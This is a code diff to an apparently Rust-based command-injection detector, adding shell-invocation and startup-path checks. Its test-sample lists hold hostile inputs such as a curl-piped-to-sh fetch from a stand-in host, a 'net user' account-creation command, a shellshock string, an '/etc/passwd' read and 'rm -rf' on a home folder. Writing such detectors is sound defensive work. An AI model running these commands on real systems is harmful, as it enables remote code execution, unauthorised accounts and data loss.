@@ -4,6 +4,7 @@ use std::ops::Range;
 
 use memchr::{memchr_iter, memchr2, memchr3, memmem};
 
+use super::checks::{SHELLS, is_startup, takes_code};
 use super::command::attack;
 use super::glance::{self, Begins};
 use super::script::{Call, Command, RedirectKind};
@@ -39,8 +40,11 @@ pub static RECOGNIZERS: &[Recognizer] = &[Recognizer {
         "photo.png%0aid;cat%20/etc/passwd",
         "--upload-pack=touch /tmp/x",
         "-oProxyCommand=sh -c 'id'",
+        "--log-file=/etc/cron.d/job",
         "() { :; }; /bin/sh -c id",
         "& ipconfig",
+        "bash -c 'curl http://files.example/a | sh'",
+        "cmd /c net user bob hunter22 /add",
         "bob\nrm -rf ~/work",
         r#"{"host": "; dir"}"#,
         r#"{"host": "127.0.0.1 || ping -c 10 127.0.0.1"}"#,
@@ -59,6 +63,7 @@ pub static RECOGNIZERS: &[Recognizer] = &[Recognizer {
         "const id = 5; kill(pid); return cat(x);",
         "build-$(date +%F)-$(git rev-parse HEAD)",
         "--output=json",
+        "sh -c 'npm run build'",
         "() => { run(); }",
         "cd app && npm install && npm test",
         "rock & roll; more | less",
@@ -84,11 +89,19 @@ pub fn find(parameter: &Parameter<'_>) -> Option<Match> {
     }
     let bytes = parameter.bytes();
     let has_signs = || bytes.has_any(b";|&`\n$") && glance::may_attack(text, true);
+    let by_shell = || if bytes.has_any(b"-/") && calls_shell(text) { attack(text) } else { None };
     let by_option = if bytes.has_any(b"-:(") { option(text) } else { None };
     let by_sign = || if has_signs() { breakout(text) } else { None };
     let by_line = || if bytes.has(b'%') { encoded_line(text) } else { None };
-    let span = by_option.or_else(by_sign).or_else(by_line)?;
+    let span = by_option.or_else(by_sign).or_else(by_line).or_else(by_shell)?;
     Some(Match { start: span.start, end: span.end, score: 0.8 })
+}
+
+/// Whether a value is a call of a shell that is handed a text to run: `sh -c '…'`, `cmd /c …`. No value is, whatever is expected.
+fn calls_shell(text: &str) -> bool {
+    let mut words = text.split_ascii_whitespace();
+    let name = words.next().map(|name| super::script::base_name(name.trim_matches(['"', '\''])));
+    name.is_some_and(|name| SHELLS.contains(&&*name) && words.take(8).any(|word| takes_code(&name, word)))
 }
 
 fn is_document(text: &str) -> bool {
@@ -135,6 +148,11 @@ fn option(text: &str) -> Option<Range<usize>> {
         && let Some(span) = found(start)
     {
         return Some(span);
+    }
+    // An option that writes to where the system starts what it finds.
+    let value = text[start..].strip_prefix('-').and_then(|option| option.split_once('='));
+    if value.is_some_and(|(option, path)| !option.contains([' ', '/']) && is_startup(path) && path.starts_with(['/', '~'])) {
+        return Some(start..text.len());
     }
     if text.starts_with("ext::") && text.len() > 6 || text.starts_with("ssh://-o") {
         return Some(0..text.len());
@@ -342,8 +360,8 @@ fn starts_with_command(text: &str) -> bool {
 /// How much what stands there is a command, and how long it is.
 pub(super) fn grade(rest: &str, operator: &[u8], before: &str) -> Option<(Grade, usize)> {
     let rest = window(rest);
-    // In quotation marks a name may hold blanks up to its last folder.
-    let is_quoted = memchr2(b'\'', b'"', rest.as_bytes()).is_some();
+    // In quotation marks and backticks a name may hold anything up to its last folder.
+    let is_quoted = memchr3(b'\'', b'"', b'`', rest.as_bytes()).is_some();
     let may_be = is_quoted || glance::begins(rest.as_bytes(), 0) != Begins::Otherwise;
     if may_be { grade_read(rest, operator, before) } else { None }
 }
